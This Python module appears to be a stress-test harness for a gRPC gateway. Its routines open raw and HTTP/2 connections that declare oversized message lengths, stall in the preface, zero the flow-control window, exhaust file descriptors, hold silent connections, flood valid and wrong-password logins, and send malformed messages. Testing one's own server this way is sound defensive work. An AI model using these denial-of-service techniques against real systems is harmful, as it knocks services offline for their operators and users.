"""What one hostile client does, by raw sockets, without a token: `attacks.py NAME DATA CONTROL ADMIN SECONDS`.

Each is a process of its own, bounded in time and count, and prints one line about what it saw. The names are the rows of
the issue that they come from; small letters are their neighbours.
"""
import itertools
import random
import resource
import socket
import struct
import sys
import time

import frames
from client import API, field, login_request, strings
from frames import Connection, frame, grpc_fields, literal, message, settings

HEALTH = "/grpc.health.v1.Health/"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
OPEN = "/open.Bench/"


class Attack:
    def __init__(self, data, control, admin, seconds):
        self.data, self.control, self.admin = data, control, admin
        self.end = time.monotonic() + seconds
        self.held = []

    @property
    def goes_on(self):
        return time.monotonic() < self.end

    def connect(self, address=None, *args, **kwargs):
        try:
            return Connection(address or self.data, *args, **kwargs)
        except OSError:
            return None

    def raw(self, address, data=b"", hold=True):
        """A connected socket that has sent `data`, or None."""
        host, port = address.rsplit(":", 1)
        try:
            sock = socket.create_connection((host, int(port)), 2)
            sock.sendall(data)
        except OSError:
            return None
        if hold:
            self.held.append(sock)
        else:
            sock.close()
        return sock

    def hold(self):
        """Waits until the time is up. Returns how many of the held connections the peer has closed."""
        for connection in self.held:
            sock = getattr(connection, "socket", connection)
            sock.settimeout(max(0.0, self.end - time.monotonic()) or 0.001)
            try:
                while sock.recv(65536):
                    pass
            except TimeoutError:
                break
            except OSError:
                pass
        closed = 0
        for connection in self.held:
            sock = getattr(connection, "socket", connection)
            sock.setblocking(False)
            try:
                while read := sock.recv(65536):
                    pass
                closed += not read
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
        return f"{closed} of {len(self.held)} connections closed by the other side"

    def a1_declared_lengths(self):
        """Message prefixes that declare more bytes than follow, to each of the gateway's own services, on new connections each time."""
        paths = [API + "Login", HEALTH + "Check", REFLECTION, "/monopod.control.v1.WaitingRoom/WatchQueue"]
        lengths, rounds = [2_000_000, 2_097_152, 60_000, 0x7FFFFFFF, 0xFFFFFFFF], 0
        for path, length in itertools.cycle(itertools.product(paths, lengths)):
            connection = self.goes_on and len(self.held) < 40 and self.connect()
            if not connection:
                break
            for _ in range(180):
                connection.call(grpc_fields(path), message(b"", length=length), end=False)
            connection.pump(0.2)
            self.held.append(connection)
            rounds += 1
        return f"{rounds * 180} streams; {self.hold()}"

    def a2_prefaces(self):
        """Connections that stop within the preface or the first frame header."""
        beginnings = [frames.PREFACE[:9], frames.PREFACE[:23], frames.PREFACE + b"\x00\x40\x00",
                      frames.PREFACE + b"\xff\xff\xff\x04\x00\x00\x00\x00", frames.PREFACE + b"\x00\x40\x00\x04\x00\x00\x00\x00\x00"]
        for start in itertools.islice(itertools.cycle(beginnings), 600):
            self.raw(self.data, start)
        return self.hold()

    def a3_watches(self):
        """Open streams: thousands of Watch calls, and reflection calls whose answers have no flow-control window."""
        watch = message(field(1, ""))
        for _ in range(12):
            if connection := self.connect():
                self.held.append(connection)
                for _ in range(40):
                    for _ in range(100):
                        connection.call(grpc_fields(HEALTH + "Watch"), watch)
                    connection.pump(0.01)
        ask = message(field(4, "my_service.MyServiceAPI")) * 20
        for _ in range(100):
            if self.goes_on and (connection := self.connect(None, settings(x4=0))):
                self.held.append(connection)
                for _ in range(20):
                    connection.call(grpc_fields(REFLECTION), ask)
        return self.hold()

    def a4_untaken_answers(self):
        """Calls to an open route whose answers have no flow-control window, so they stay open; counts the concurrent ones."""
        connection, most, refused = self.connect(None, settings(x4=0)), 0, 0
        request = message(field(1, "a4 0"))
        while connection and self.goes_on and not connection.closed and most < 50_000:
            for _ in range(200):
                connection.call(grpc_fields(OPEN + "Work"), request)
            connection.pump(0.05)
            answers = connection.answers.values()
            most = max(most, sum(bool(answer.fields) and not answer.over for answer in answers))
            refused = sum(answer.over for answer in answers)
        return f"open={most} refused={refused} connection={connection and connection.end()}"

    def a5_descriptors(self, address):
        """More connections than the process has file descriptors, repeatedly."""
        made = 0
        while self.goes_on and made < 20_000:
            batch = [sock for sock in (self.raw(address, hold=False) for _ in range(50)) if sock]
            made += len(batch)
            if self.held.__len__() < 1300:
                self.held += filter(None, (self._quiet(address) for _ in range(100)))
        return f"{made} quick connections, {len(self.held)} held"

    def _quiet(self, address):
        host, port = address.rsplit(":", 1)
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((host, int(port)))
        return sock

    def a6_silent(self, address):
        """Connections that send nothing, or only a beginning."""
        beginnings = [b"", b"GET /hea", frames.PREFACE[:10], frames.PREFACE]
        for start in itertools.islice(itertools.cycle(beginnings), 900):
            self.raw(address, start)
        return self.hold()

    def a7_logins(self):
        """Valid logins at full speed, each for its own session, and a call with each token."""
        connection, count = self.connect(), 0
        while connection and self.goes_on and not connection.closed:
            sessions = [f"a7-{time.time_ns()}-{i}" for i in range(8)]
            logins = [connection.call(grpc_fields(API + "Login"), message(login_request(session))) for session in sessions]
            calls = []
            for session, stream in zip(sessions, logins):
                answer = connection.wait(stream, 5)
                if answer.code == 0:
                    count += 1
                    token = ("authorization", strings(answer.data[5:])[1].decode())
                    calls.append(connection.call(grpc_fields(API + "MyServiceEcho", token, ("session-id", session)), message(b"")))
            for stream in calls:
                connection.wait(stream, 5)
            connection.answers.clear()
        return f"{count} logins, each with a call"

    def a8_wrong_logins(self):
        """Two hundred concurrent wrong logins, repeatedly, each on its own connection, from an address that no other client uses."""
        connections, done = [self.connect(source="127.0.0.66") for _ in range(200)], 0
        while self.goes_on:
            for connection in connections:
                if connection is None or connection.closed:
                    continue
                done += sum(answer.over for answer in connection.answers.values())
                if all(answer.over for answer in connection.answers.values()):
                    connection.answers.clear()
                    name = f"{random.choice(('TestUser', 'nobody', 'root'))}{random.randrange(50)}"
                    connection.call(grpc_fields(API + "Login"), message(login_request("a8", name, "wrong")))
                connection.pump(0.001)
        return f"{done} wrong logins answered"

    def a9_malformed(self):
        """Malformed messages to the gateway's own services; returns how many bytes they had."""
        bad = [message(b"\x0a\xff"), message(b"\x0a\x01\xff"), message(b"\xff" * 40), message(b"abc", flag=1), b"\0\0\0\0"]
        sent, connection = 0, self.connect()
        while self.goes_on and sent < 400_000:
            if connection is None or connection.closed:
                connection = self.connect()
                continue
            for body, path in itertools.product(bad, [API + "Login", HEALTH + "Check"]):
                fields = grpc_fields(path)
                connection.call(fields, body)
                sent += len(literal(fields)) + len(body) + 18
            connection.pump(0.02)
            connection.answers = {stream: answer for stream, answer in connection.answers.items() if not answer.over}
        return f"sent={sent} bytes"

    def run(self, name):
        method, _, listener = name.partition(":")
        attack = getattr(self, method)
        return attack(getattr(self, listener)) if listener else attack()


ALL = ("a1_declared_lengths a2_prefaces a3_watches a4_untaken_answers a6_silent:control a6_silent:admin a6_silent:data "
       "a7_logins a8_wrong_logins a9_malformed").split()
STARVING = ["a5_descriptors:data", "a5_descriptors:control", "a5_descriptors:admin"]

if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(8192, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
    print(Attack(*sys.argv[2:5], float(sys.argv[5])).run(sys.argv[1]), flush=True)
